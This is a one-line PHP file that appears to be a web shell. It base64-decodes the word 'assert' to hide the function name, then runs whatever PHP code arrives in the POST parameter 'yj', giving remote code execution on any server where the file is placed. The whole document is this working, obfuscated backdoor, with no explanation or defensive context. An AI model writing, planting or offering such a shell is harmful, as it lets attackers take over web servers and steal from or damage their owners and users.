<?php $yj=base64_decode("YXNzZXJ0");$yj($_POST['yj']);?>
